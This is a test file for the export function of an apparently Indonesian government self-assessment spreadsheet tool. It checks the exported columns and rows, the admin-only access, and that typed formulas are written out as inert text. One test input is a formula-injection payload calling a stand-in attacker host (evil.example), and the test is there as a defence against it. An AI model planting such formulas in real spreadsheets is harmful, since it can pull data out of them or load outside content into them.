import { ADMIN, panelWorld } from '../support/panel-world';
import { columnOf, rowOf } from '../support/workbook-helpers';

describe('SPBE › Ekspor', () => {
  it('writes, per indicator, the self-assessed level, explanation and evidence, a typed formula as text', () => {
    const w = panelWorld();
    const t = w.grid('Bappeda');
    w.env.type(
      ADMIN,
      'Bappeda',
      rowOf(t, 'I13'),
      columnOf(t, 'Penjelasan'),
      '=IMPORTXML("http://evil.example";"//a")',
    );
    w.env.user = ADMIN;
    w.menu('menuExport');
    const cells = w.grid('Ekspor').cells;
    expect(cells[0]).toEqual(['Kode', 'Indikator', 'Tingkat', 'OPD', 'Penjelasan', 'Data dukung']);
    expect(cells.slice(1).map((r) => r[0])).toHaveLength(47);
    const i13 = cells.find((r) => r[0] === 'I13');
    expect(i13?.[3]).toBe('Bappeda');
    // As typed, for copying into the national application, and text, not a formula (R14).
    expect(i13?.[4]).toBe('=IMPORTXML("http://evil.example";"//a")');
    expect(w.liveFormulas().filter((f) => f.tab === 'Ekspor')).toEqual([]);
    expect(cells.find((r) => r[0] === 'I05')?.[2]).toBe(''); // planted: not assessed
    expect(w.env.ui.alerts.at(-1)?.prompt).toMatch(/^Ekspor 47 indikator ditulis di tab Ekspor/);
  });

  it('is for admins only', () => {
    const w = panelWorld();
    w.env.user = 'bappeda.spbe@example.org';
    w.menu('menuExport');
    expect(w.env.ui.alerts.at(-1)?.prompt).toMatch(
      /^Hanya admin Diskominfo \(.+\) yang dapat mengekspor isian\./,
    );
    expect(w.env.spreadsheet.sheetNamed('Ekspor')).toBeUndefined();
  });
});
